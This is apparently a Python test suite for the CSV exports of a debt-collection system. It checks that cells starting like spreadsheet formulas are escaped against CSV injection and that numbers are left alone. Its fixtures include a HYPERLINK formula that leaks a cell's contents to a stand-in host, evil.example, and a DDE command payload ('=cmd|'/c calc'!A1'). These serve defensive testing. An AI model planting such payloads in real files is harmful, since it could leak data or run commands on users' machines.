"""CSV exports never hand a spreadsheet a live formula (OWASP CSV injection), and leave numbers alone."""

from __future__ import annotations

import csv
import io
from datetime import date

import numpy as np
from hypothesis import given
from hypothesis import strategies as st

from arrears.contact import load_default_pack
from arrears.contact.besttime import SLOTS
from arrears.contact.plan import DueCase, Shift, build_plan, export_dialer_csv
from arrears.escalation.service import csv_bytes
from arrears.kit.csvsafe import FORMULA_STARTS, safe_cell
from arrears.reports.service import to_csv

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def live(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_STARTS and not cell.lstrip("+-").replace(".", "", 1).isdigit()


@given(st.text())
def test_no_text_starts_a_formula_and_nothing_is_lost(text):
    out = safe_cell(text)
    assert not live(out)
    assert out == text or out == "'" + text


@given(st.integers() | st.decimals(allow_nan=False, allow_infinity=False).map(str) | st.integers().map(str))
def test_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_report_exports_escape_text_cells_only():
    text = to_csv([{"agent": FORMULA, "note": "@SUM(1,2)", "delta_fen": -500, "as_text": "-500", "d": "-1+1"}])
    assert cells(text)[1] == ["'" + FORMULA, "'@SUM(1,2)", "-500", "-500", "'-1+1"]


def test_agency_and_bundle_csv_escape_text_cells_only():
    rows = cells(csv_bytes(["name", "amount", "note"], [[FORMULA, -1200, "+86 phone\tx"]]).decode())
    assert rows[1] == ["'" + FORMULA, "-1200", "'+86 phone\tx"]


def test_dialer_file_escapes_account_refs(tmp_path):
    cases = [DueCase(1, "=cmd|'/c calc'!A1", 7, "Asia/Shanghai", 500)]
    plan = build_plan(cases, np.full((1, SLOTS), 0.5), day=date(2026, 3, 10), shifts=[Shift(1, None)],
                      pack=load_default_pack("cn"), calls_per_agent_hour=3)
    assert export_dialer_csv(plan, tmp_path / "dialer.csv") == 1
    (row,) = cells((tmp_path / "dialer.csv").read_text(encoding="utf-8"))[1:]
    assert row[1] == "'=cmd|'/c calc'!A1"
